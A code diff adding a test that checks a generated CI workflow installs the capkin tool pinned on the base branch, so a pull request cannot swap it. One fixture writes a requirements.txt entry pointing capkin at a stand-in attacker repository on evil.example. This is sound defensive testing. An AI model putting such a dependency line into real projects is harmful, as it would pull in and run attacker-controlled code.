@@ -12,6 +12,7 @@ import os
 import shutil
 import subprocess
 import sys
+from datetime import date
 from pathlib import Path
 from typing import Any
 
@@ -284,3 +285,44 @@ def test_comment_marker_cannot_be_doubled_or_dropped(komentar: Any) -> None:
     (komentar.artefak / "diff.md").write_text("tanpa penanda\n<!-- capkin-diff -->\n")
     _, tulis = komentar([])
     assert tulis[0]["body"] == "<!-- capkin-diff -->\ntanpa penanda\n"
+
+
+# --- the validate job installs capkin as pinned on the base branch ------------------------
+
+
+def test_validate_installs_capkin_from_the_base_branch_not_the_pull_request(
+    tmp_path: Path,
+) -> None:
+    """A pull request that changes requirements.txt cannot change the capkin that checks it."""
+    from factories import RepoUji
+
+    from capkin.scaffold.init import isi_repo
+
+    teks = isi_repo("Kantor Uji", None, 2025, date(2025, 1, 2))[".github/workflows/validate.yml"]
+    data = yaml.safe_load(teks)
+    langkah_job = data["jobs"]["validasi"]["steps"]
+    nama = [s["name"] for s in langkah_job]
+    ambil = langkah_job[nama.index("Ambil capkin sesuai cabang dasar")]
+    pasang = langkah_job[nama.index("Pasang capkin (versi cabang dasar)")]
+    assert nama.index("Pasang capkin (versi cabang dasar)") < nama.index("Validasi data")
+    assert ambil["env"] == {"BASE_SHA": "${{ github.event.pull_request.base.sha }}"}
+    assert pasang["working-directory"] == "${{ runner.temp }}/dasar"
+    assert pasang["run"] == "pip install -r requirements.txt"
+    assert not any("pip install" in s.get("run", "") for s in langkah_job if s is not pasang)
+    # run the fetch step in a real repository: the base's requirements.txt is what gets read
+    repo = RepoUji.buat(tmp_path / "repo")
+    dasar = repo.commit("Dasar", {"requirements.txt": "capkin==1.0\n"})
+    repo.commit("PR", {"requirements.txt": "capkin @ git+https://evil.example/capkin\n"})
+    runner = tmp_path / "runner"
+    runner.mkdir()
+    hasil = subprocess.run(
+        ["bash", "-e", "-c", ambil["run"]],
+        cwd=repo.root,
+        env={**os.environ, "RUNNER_TEMP": str(runner), "BASE_SHA": dasar},
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert hasil.returncode == 0, hasil.stderr
+    assert (runner / "dasar/requirements.txt").read_text(encoding="utf-8") == "capkin==1.0\n"
+    assert "evil" in (repo.root / "requirements.txt").read_text(encoding="utf-8")
